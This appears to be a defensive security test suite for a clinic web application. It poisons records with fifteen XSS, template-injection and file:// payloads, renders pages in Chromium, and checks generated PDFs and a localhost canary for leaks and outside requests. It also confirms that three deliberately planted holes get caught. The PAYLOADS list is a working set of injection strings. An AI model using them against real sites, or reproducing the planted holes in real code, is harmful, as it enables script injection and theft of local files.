"""Fifteen payloads in every word on record, every page in a real Chromium, papers made anew.

No dialog, no request to anywhere, nothing read from the disk. The same eyes look at three holes
opened on purpose (``holes.py``), and must name each.
"""

import socket
import threading
from collections.abc import Iterator, Sequence
from contextlib import closing
from io import BytesIO
from pathlib import Path
from typing import cast

from flask import Flask
from playwright.sync_api import Browser, BrowserContext
from pypdf import PdfReader
from pypdf.errors import PyPdfError
from pypdf.generic import StreamObject

from clinic.app.schema import upgrade
from clinic.core.database import db
from clinic.core.errors import DomainError
from tests.aftercare.making import make_sheet
from tests.chromium import Screen, start_chromium
from tests.conftest import make_app, read_database
from tests.letters.making import make_report
from tests.live import serve
from tests.pages.people import Windows
from tests.pages.practice import Practice, fill
from tests.pages.states import STATES, State
from tests.people import actor, make_practice
from tests.reader import Reader
from tests.trust.full.holes import HOLES, Hole, Spoil, sound
from tests.trust.full.poison import poison
from tests.trust.full.progress import Progress

SECRET = "what only this computer may know"
# As words that a paper may carry along, and as a picture that it may show.
SECRET_FILES = {
    "secret.txt": SECRET,
    "secret.svg": f"""\
<svg xmlns="http://www.w3.org/2000/svg" width="400" height="40"><text y="20">{SECRET}</text></svg>
""",
}
PAYLOADS = (
    "<script>alert(1)</script>",
    '"><script src="{canary}/a.js"></script>',
    "'><img src=x onerror=alert(1)>",
    '<img src="{canary}/b.png">',
    "<svg onload=alert(1)><image href='{canary}/c.svg'/></svg>",
    '"><iframe src="javascript:alert(1)"></iframe>',
    "<a href='javascript:alert(1)' autofocus onfocus=alert(1)>here</a>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}${{7*7}}",
    "<style>@import url({canary}/d.css);*{{background:url({canary}/e)}}</style>",
    '<link rel="stylesheet" href="{canary}/f.css"><link rel=attachment href="file://{secret}">',
    '<meta http-equiv="refresh" content="0;url={canary}/g"><base href="{canary}/">',
    '<object data="file://{picture}"></object><embed src="file://{picture}">',
    '<form action="{canary}/h"><button autofocus>Save</button></form></form></textarea></title>',
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-\u2028\u202e%3Cscript%3Ealert(1)%3C/script%3E",
    "`\"'--><!--<![CDATA[</script><script>alert(1)//]]>",
)


def run(progress: Progress, scratch: Path) -> None:
    """Each round one payload; in the first also the planted holes."""
    whole = filled(scratch / "whole")
    with start_chromium() as chromium, Canary() as canary:
        for number, _chance in progress.rounds():
            place = scratch / f"round-{number}"
            faults = look(progress, chromium, canary, place, whole, number)
            for fault in faults:
                progress.fault(fault)
            if number == 0:
                for hole in HOLES:
                    is_seen = see_hole(hole, chromium, canary, scratch / hole.name, whole)
                    progress.count("planted_holes_seen", is_seen)
                    if not is_seen:
                        progress.fault(f"{hole.name} was not noticed")


def filled(folder: Path) -> tuple[bytes, dict[str, str]]:
    """The database of the practice whose pages are looked at, and the names of its records."""
    folder.mkdir()
    app = make_app(folder)
    with app.app_context():
        upgrade()
        make_practice()
    practice = fill(app)
    with app.app_context():
        db.session.remove()
        return read_database(folder), practice.ids


def look(
    progress: Progress,
    chromium: Browser,
    canary: "Canary",
    folder: Path,
    whole: tuple[bytes, dict[str, str]],
    number: int,
    *,
    spoil: Spoil = sound,
    states: Sequence[State] | None = None,
) -> list[str]:
    """Poison a copy of the practice with one payload and look at all of it, or at some states."""
    folder.mkdir()
    for name, held in SECRET_FILES.items():
        (folder / name).write_text(held)
    (folder / "clinic.db").write_bytes(whole[0])
    app = make_app(folder)
    payload = PAYLOADS[number % len(PAYLOADS)].replace("{canary}", canary.address)
    for sign, name in (("{secret}", "secret.txt"), ("{picture}", "secret.svg")):
        payload = payload.replace(sign, str(folder / name))
    progress.count("words_poisoned", poison(folder / "clinic.db", payload))
    looked_at = looked_at_states() if states is None else states
    with spoil(app):
        faults = _pages(progress, chromium, app, whole[1], looked_at)
        faults += _papers(progress, app, whole[1])
    faults += [f"the canary was asked: {asked}" for asked in canary.take()]
    with app.app_context():
        db.engine.dispose()
    return [f"payload {number}: {fault}" for fault in faults]


def _pages(
    progress: Progress,
    chromium: Browser,
    app: Flask,
    ids: dict[str, str],
    states: Sequence[State],
) -> list[str]:
    faults: list[str] = []
    with serve(app) as address:
        practice = Practice(app, ids=ids)
        windows = Windows(chromium, practice, {}, address)
        # Everybody keeps one window: a new one for each page takes as long as the page.
        screens: dict[BrowserContext, Screen] = {}
        for state in states:
            context = windows.context(state.who)
            screen = screens.get(context) or screens.setdefault(context, Screen(context, address))
            for path in filter(None, (practice.path(state.path), state.then)):
                screen.open(path)
            progress.count("pages")
            faults += [f"{state}: {fault}" for fault in screen.faults]
            screen.faults.clear()
        windows.close()
    return faults


def looked_at_states() -> list[State]:
    """Pages as they open: what is sent would change the practice for the pages after it."""
    return [
        state for state in STATES if state.sends is None and state.who not in ("founder", "away")
    ]


def _papers(progress: Progress, app: Flask, ids: dict[str, str]) -> list[str]:
    """Papers are made of the poisoned words now: a report, a sheet, a session note."""
    with app.app_context():
        by = actor("therapist")
        db.session.remove()
        try:
            make_report(ids["calf"], by)
        except DomainError:
            progress.count("reports_too_long_for_their_page")
        make_sheet(ids["plan"], by)
        kept = db.session.connection().exec_driver_sql("SELECT content FROM document").all()
        db.session.remove()
    note = Reader.signed_in(app, "therapist").browser.get(f"/sessions/{ids['signed']}.pdf")
    faults = [] if note.status_code == 200 else [f"no paper of the note: {note.status}"]
    for content in (*(row[0] for row in kept), note.get_data()):
        progress.count("papers")
        if gives_away(content):
            faults.append("a paper says what only this computer may know")
    return faults


def gives_away(content: bytes) -> bool:
    """Whether a paper says the secret, or carries it along: a file inside it is on no page."""
    reader = PdfReader(BytesIO(content))
    words = "".join(page.extract_text() for page in reader.pages)
    if SECRET in " ".join(words.split()):
        return True
    return any(SECRET.encode() in stream for stream in (content, *_streams(reader)))


def _streams(reader: PdfReader) -> Iterator[bytes]:
    """Everything packed into a paper: pages, pictures, fonts, attached files."""
    for number in range(1, cast("int", reader.trailer["/Size"])):
        held = reader.get_object(number)
        if isinstance(held, StreamObject):
            try:
                yield held.get_data()
            except (PyPdfError, NotImplementedError):  # a picture packed in a way of its own
                yield held._data


def see_hole(
    hole: Hole,
    chromium: Browser,
    canary: "Canary",
    folder: Path,
    whole: tuple[bytes, dict[str, str]],
) -> bool:
    """Whether this very hole is noticed, and not only that something is wrong."""
    states = [state for state in looked_at_states() if state.who == "therapist"][: hole.pages]
    aside = Progress("planted", 1, 0)
    faults = look(
        aside, chromium, canary, folder, whole, hole.payload, spoil=hole.spoil, states=states
    )
    return any(hole.seen in fault for fault in faults)


class Canary:
    """Listens where payloads point; nobody may come."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.address = f"http://localhost:{self.listener.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def __enter__(self) -> "Canary":
        return self

    def __exit__(self, *_error: object) -> None:
        self.listener.close()

    def take(self) -> list[str]:
        """Who came since the last time."""
        asked, self.asked = self.asked, []
        return asked

    def _listen(self) -> None:
        while True:
            try:
                visitor, _address = self.listener.accept()
            except OSError:
                return
            with closing(visitor):
                visitor.settimeout(2)
                try:
                    self.asked.append(visitor.recv(200).decode(errors="replace").split("\r")[0])
                except OSError:
                    self.asked.append("somebody")
